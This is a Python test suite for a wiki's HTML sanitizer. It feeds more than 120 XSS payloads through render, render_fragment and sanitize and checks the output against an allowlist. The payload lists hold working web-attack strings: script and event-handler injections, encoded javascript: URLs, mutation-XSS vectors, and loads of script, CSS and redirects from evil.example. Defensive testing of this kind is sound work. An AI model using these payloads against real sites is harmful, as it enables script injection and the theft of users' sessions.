"""XSS suite for wiki.render: hostile text through render, render_fragment and sanitize.

The checker below has its own copy of the allowlist on purpose: widening the
allowlist in wiki/render.py must be a visible change here too.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wiki import render
from wiki.errors import InvalidInput

SAFE_TAGS = {
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "ul", "ol", "li", "dl", "dt", "dd",
    "table", "thead", "tbody", "tr", "th", "td", "a", "em", "strong", "code", "pre",
    "blockquote", "sup", "sub", "abbr", "del", "ins", "div", "span",
}
SAFE_ATTRIBUTES = {
    "a": {"href", "title", "class", "rel"},
    "abbr": {"title"},
    "ol": {"start"},
    "th": {"class"}, "td": {"class"}, "div": {"class"}, "span": {"class"},
    "sup": {"id"}, "li": {"id"},
    **{f"h{n}": {"id"} for n in range(1, 7)},
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster",
                  "background", "cite", "codebase", "srcset", "ping", "lowsrc", "dynsrc"}
SAFE_SCHEMES = {"http", "https", "mailto"}
SAFE_ID = re.compile(r"(s-|fn:|fnref\d*:)")
_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.\-]*):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\s]")


def _url_scheme(value: str) -> str | None:
    """The scheme a browser would see in ``value``, or None for a relative URL."""
    previous = None
    while previous != value:  # undo any depth of entity encoding
        previous, value = value, html.unescape(value)
    match = _SCHEME.match(_INVISIBLE.sub("", value))
    return match.group(1).lower() if match else None


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            if name == "style":
                self.problems.append(f"style on <{tag}>")
            if name not in SAFE_ATTRIBUTES.get(tag, set()):
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES:
                scheme = _url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "id" and not SAFE_ID.match(value):
                self.problems.append(f"id={value!r} could clobber a DOM global")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")


def problems_in(output: str) -> list[str]:
    """Every way ``output`` could run script or break out of the allowlist."""
    checker = _Checker()
    checker.feed(output)
    checker.close()
    if re.search(r"<\s*/?\s*script", output, re.IGNORECASE):
        checker.problems.append("raw <script")
    return checker.problems


def assert_safe(output: str) -> None:
    assert problems_in(output) == [], output


# --- The payloads. -----------------------------------------------------------

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=x></script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    '<script src="data:text/javascript,alert(1)"></script>',
    '"><script>alert(1)</script>',
    "</p><script>alert(1)</script><p>",
    "<script\ntype=text/javascript>alert(1)</script>",
    "<script>alert(1)",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=x onerror=&#97;lert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<div/onmouseover='alert(1)'>hover</div>",
    "<p OnMouseOver=alert(1)>hover</p>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    '<a href="#" onmouseover = "alert(1)">x</a>',
    '<a """ onclick=alert(1)>x</a>',
    "<sup onmouseover=alert(1)>1</sup>",
    "<span onfocus=alert(1) tabindex=0 autofocus>x</span>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "<h2 onmouseover=alert(1)>Title</h2>",
    '<abbr title="x" onmouseover=alert(1)>x</abbr>',
    "<code onclick=alert(1)>x</code>",
    "<blockquote onclick=alert(1)>x</blockquote>",
    "<strong onpointerenter=alert(1)>x</strong>",
    "<em\tonclick=alert(1)>x</em>",
    "<del onanimationstart=alert(1)>x</del>",
]

MARKDOWN_URLS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](jav&#97;script:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](javascript:alert(1) \"title\")",
    "[x](\x01javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: javascript:alert(1) \"t\"",
    "[x][r]\n\n[r]: <data:text/html,x>",
    "[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://ok.example\" onmouseover=\"alert(1))",
    "<https://ok.example/\" onmouseover=\"alert(1)>",
    "<someone@example.org\" onmouseover=\"alert(1)>",
]

HTML_URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java&#x0D;script:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x00javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="javascript\u2028:alert(1)">x</a>',
    '<a href="&Tab;javascript:alert(1)">x</a>',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1) /></svg>#x"></use></svg>',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">X</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

EMBEDDING = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:alert(1)">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<applet code=x.class></applet>",
    "<portal src=https://evil.example></portal>",
]

STYLES = [
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    '<span style="behavior:url(x.htc)">x</span>',
    '<a style="position:fixed;top:0;left:0;width:100%;height:100%" href="https://evil.example">x</a>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<td style="color:red">x</td>',
]

META_AND_BASE = [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<meta charset="x-imap4-modified-utf7">',
]

FORMS = [
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">X</button>',
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<keygen autofocus onfocus=alert(1)>",
]

WIKI_AND_FRONT_MATTER = [
    "[[<img src=x onerror=alert(1)>]]",
    "[[Foo|<script>alert(1)</script>]]",
    "[[javascript:alert(1)]]",
    "[[Foo|<a href=\"javascript:alert(1)\">x</a>]]",
    '[[Foo" onmouseover="alert(1)]]',
    "[[Foo#\"><script>alert(1)</script>]]",
    "[[#<img src=x onerror=alert(1)>]]",
    "[[Foo|[x](javascript:alert(1))]]",
    "[[ ]]",
    "[x]([[Foo]])",
    "[[Foo]](javascript:alert(1))",
    "[[\ue000img src=x onerror=alert(1)>]]",
    '---\naliases: ["<script>alert(1)</script>"]\n---\nbody',
    '---\ncategories: ["<img src=x onerror=alert(1)>"]\ntitle: "<svg onload=alert(1)>"\n---\n'
    "<script>alert(1)</script>",
    '---\nicd10: ["javascript:alert(1)"]\n---\n[x](javascript:alert(1))',
]

PMID_AND_DOI = [
    "PMID: 12345678<script>alert(1)</script>",
    'PMID:123"onmouseover="alert(1)',
    'doi:10.1000/x"onmouseover="alert(1)',
    "doi:10.1000/<script>alert(1)</script>",
    "doi:10.1000/x'><img src=x onerror=alert(1)>",
    "DOI: 10.1000/javascript:alert(1)",
    "doi:10.1000/x)<svg onload=alert(1)>",
    "PMID 1 <img src=x onerror=alert(1)>",
    "[PMID: 123](javascript:alert(1))",
    "doi:10.1000/a&#x22;onclick=alert(1)",
]

NESTED_AND_UNCLOSED = [
    '<a href="javascript:alert(1)"',
    "<img src=x onerror=alert(1)//",
    "<<img src=x onerror=alert(1)>",
    '<div><p><a href="javascript:alert(1)">x',
    '<a href="https://ok.example"<script>alert(1)</script>',
    '<img src="x\n" onerror="alert(1)">',
    "</script><script>alert(1)</script>",
    "<p><b><i><u>x</p><script>alert(1)</script>",
    "<div>" * 300 + "<img src=x onerror=alert(1)>",
    "<span>" * 200 + '<a href="javascript:alert(1)">x</a>',
]

COMMENTS_AND_CDATA = [
    "<!--<script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<? echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
]

MUTATION_XSS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><p><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<style><img src=x onerror=alert(1)></style>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<a href="https://ok.example"><svg><a href="javascript:alert(1)">x</a></svg></a>',
    "<template><script>alert(1)</script></template>",
    '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
]

CLOBBERING = [
    '<h2 id="location">x</h2>',
    '<a id="config" name="config">x</a>',
    '<form name="getElementById"></form>',
    '<img name="cookie">',
    '<sup id="x">1</sup><li id="defaultView">y</li>',
]

MARKDOWN_CONSTRUCTS = [
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
    "Text[^1]\n\n[^1]: <script>alert(1)</script>",
    'Text[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: note',
    "## <img src=x onerror=alert(1)>\n\n## <script>alert(1)</script>\n\n"
    "### <a href=javascript:alert(1)>x</a>",
    "## Heading\n\n## [x](javascript:alert(1))\n\n### `<svg onload=alert(1)>`",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>\n* [x](javascript:alert(1))",
    "1. <iframe src=javascript:alert(1)>",
]

ENCODING_TRICKS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ue000script>alert(1)\ue000/script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]

PAYLOADS = (SCRIPT_TAGS + EVENT_HANDLERS + MARKDOWN_URLS + HTML_URLS + SVG_AND_MATHML + EMBEDDING
            + STYLES + META_AND_BASE + FORMS + WIKI_AND_FRONT_MATTER + PMID_AND_DOI
            + NESTED_AND_UNCLOSED + COMMENTS_AND_CDATA + MUTATION_XSS + CLOBBERING
            + MARKDOWN_CONSTRUCTS + ENCODING_TRICKS)


def _exists(slug: str) -> bool:
    return slug in {"foo", "javascript-alert-1"}


def test_there_are_at_least_120_distinct_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 120


@pytest.mark.parametrize("payload", PAYLOADS)
def test_render_html_and_toc_are_safe(payload: str) -> None:
    rendered = render.render(payload, link_exists=_exists)
    assert_safe(rendered.html)
    assert_safe(rendered.toc)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_render_fragment_is_safe(payload: str) -> None:
    assert_safe(render.render_fragment(payload, link_exists=_exists))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitize_is_safe(payload: str) -> None:
    assert_safe(render.sanitize(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_bleach_alone_stops_the_payload(payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(render, "_clean_with_nh3", lambda text: text)
    assert_safe(render.sanitize(payload))
    assert_safe(render.render(payload, link_exists=_exists).html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nh3_alone_stops_the_payload(payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(render, "_clean_with_bleach", lambda text: text)
    assert_safe(render.sanitize(payload))
    assert_safe(render.render(payload, link_exists=_exists).html)


# --- The checker itself must catch what it is meant to catch. ---------------

@pytest.mark.parametrize("unsafe", [
    "<script>alert(1)</script>",
    "<img src=x>",
    '<p onclick="x()">a</p>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<span style="color:red">x</span>',
    '<h2 id="location">x</h2>',
    "<!-- x -->",
])
def test_checker_flags_unsafe_html(unsafe: str) -> None:
    assert problems_in(unsafe)


def test_checker_accepts_what_the_renderer_makes() -> None:
    text = ("## A\n\n## B\n\n### C\n\n[[Foo]] [[Bar]] [x](https://ok.example) [y](/wiki/y) PMID: 1 x[^1]"
            "\n\n[^1]: n")
    rendered = render.render(text, link_exists=_exists)
    assert problems_in(rendered.html) == []
    assert problems_in(rendered.toc) == []


# --- The two passes. -----------------------------------------------------------

def test_sanitize_runs_bleach_then_nh3(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    bleach_pass, nh3_pass = render._clean_with_bleach, render._clean_with_nh3
    monkeypatch.setattr(render, "_clean_with_bleach", lambda t: calls.append("bleach") or bleach_pass(t))
    monkeypatch.setattr(render, "_clean_with_nh3", lambda t: calls.append("nh3") or nh3_pass(t))
    render.sanitize("<p>x</p>")
    assert calls == ["bleach", "nh3"]


HOSTILE_PARAGRAPH = '<p onclick="x()">a<script>alert(1)</script><a href="javascript:alert(1)">b</a></p>'


def test_nh3_cleans_when_bleach_is_disabled(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(render, "_clean_with_bleach", lambda text: text)
    out = render.sanitize(HOSTILE_PARAGRAPH)
    assert out == "<p>a<a>b</a></p>"


def test_bleach_cleans_when_nh3_is_disabled(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(render, "_clean_with_nh3", lambda text: text)
    out = render.sanitize(HOSTILE_PARAGRAPH)
    assert out == "<p>a&lt;script&gt;alert(1)&lt;/script&gt;<a>b</a></p>"


def test_disallowed_markup_is_shown_as_text() -> None:
    assert render.sanitize("<b>bold</b> <img src=x>") == "&lt;b&gt;bold&lt;/b&gt; &lt;img src=x&gt;"


SAMPLE = """## Dosage

Adults: see [[Paracetamol]] and [[Ibuprofen|NSAIDs]]; PMID: 29955311, doi:10.1093/eurheartj/ehy462.

## Risks

| Risk | Rate |
|:-----|-----:|
| Liver[^1] | <sup>1</sup>/<sub>1000</sub> |

### Children

```
if dose > 4 g: stop
```

<abbr title="World Health Organization">WHO</abbr> <del>old</del> <ins>new</ins>

[^1]: Overdose only.
"""


@pytest.mark.parametrize("text", [SAMPLE, *PAYLOADS[::7]])
def test_sanitize_is_idempotent_on_its_own_output(text: str) -> None:
    rendered = render.render(text, link_exists=_exists)
    assert render.sanitize(rendered.html) == rendered.html
    assert render.sanitize(rendered.toc) == rendered.toc
    once = render.sanitize(text)
    assert render.sanitize(once) == once


def test_external_links_get_rel_and_internal_links_do_not() -> None:
    out = render.sanitize(
        '<a href="https://ok.example">a</a><a href="/wiki/x" rel="nofollow noopener">b</a>'
        '<a href="//evil.example" rel="opener">c</a><a href="#fn:1">d</a>'
        '<a href="mailto:someone@example.org">e</a>'
    )
    assert out == (
        '<a href="https://ok.example" rel="nofollow noopener">a</a><a href="/wiki/x">b</a>'
        '<a href="//evil.example" rel="nofollow noopener">c</a><a href="#fn:1">d</a>'
        '<a href="mailto:someone@example.org" rel="nofollow noopener">e</a>'
    )


def test_only_known_class_names_survive() -> None:
    out = render.sanitize(
        '<a class="wikilink new" href="/x">a</a><a class="wikilink evil" href="/y">b</a>'
        '<div class="toc">t</div><div class="modal">m</div><td class="align-left">c</td>'
    )
    assert 'class="wikilink new"' in out
    assert "evil" not in out and "modal" not in out
    assert '<div class="toc">' in out


def test_allowed_raw_html_is_kept() -> None:
    out = render.render_fragment(
        'H<sub>2</sub>O, x<sup>2</sup>, <abbr title="blood pressure">BP</abbr>, <del>a</del><ins>b</ins><br>'
        "\n\n<dl><dt>Term</dt><dd>Definition</dd></dl>"
    )
    for kept in ("<sub>2</sub>", "<sup>2</sup>", '<abbr title="blood pressure">BP</abbr>',
                 "<del>a</del>", "<ins>b</ins>", "<br>", "<dl><dt>Term</dt><dd>Definition</dd></dl>"):
        assert kept in out


def test_deeply_nested_markup_is_shown_as_text() -> None:
    out = render.sanitize("<div>" * (render.MAX_NESTING + 1) + "x")
    assert "<div>" not in out and "&lt;div&gt;" in out


def test_indexed_walker_walks_like_html5libs_own(monkeypatch: pytest.MonkeyPatch) -> None:
    table = "<table><tbody>" + "<tr><td><a href='/x'>x</a></td><td>y</td></tr>" * 50 + "</tbody></table>"
    inputs = [SAMPLE, table, render.render(SAMPLE, link_exists=_exists).html, *PAYLOADS]
    fast = [render._clean_with_bleach(text) for text in inputs]
    stock = render.bleach.sanitizer.Cleaner(
        tags=render.ALLOWED_TAGS, attributes=render._is_attribute_allowed,
        protocols=render.ALLOWED_PROTOCOLS, strip=False, strip_comments=True,
        filters=[render._ExternalLinkRel],
    )
    assert fast == [stock.clean(text) for text in inputs]


# --- Arbitrary text. -------------------------------------------------------------

FRAGMENTS = [
    "<", ">", "&", '"', "'", "javascript:", "java\tscript:", "JaVa&#x09;ScRiPt:", "data:", "vbscript:",
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "<a href=\"", "<svg", " onload=", "onerror=",
    "[[", "]]", "|", "#", "[x](", ")", "](", "[", "]", "`", "```\n", "\n", "\n\n", "    ", "PMID: ", "PMID 1",
    "doi:10.1000/", "---\n", "aliases: [", "&#x09;", "&#", ";", "<!--", "-->", "<![CDATA[", "]]>", "\ue000",
    "* ", "1. ", "> ", "| a | b |\n|---|---|\n", "[^1]", "[^1]: ", "## ", "<style>", "<math>", "<noscript>",
    "<p title=\"", "\\", "<http://", "@example.org>", "*", "_",
]
TEXTS = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=12)), max_size=40).map("".join)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(TEXTS)
def test_any_text_renders_to_safe_html(text: str) -> None:
    try:
        rendered = render.render(text, link_exists=lambda slug: len(slug) % 2 == 0)
    except InvalidInput:
        pass  # only the front matter may be refused
    else:
        assert_safe(rendered.html)
        assert_safe(rendered.toc)
        assert render.render(text, link_exists=lambda slug: len(slug) % 2 == 0) == rendered
    assert_safe(render.render_fragment(text))
    assert_safe(render.sanitize(text))
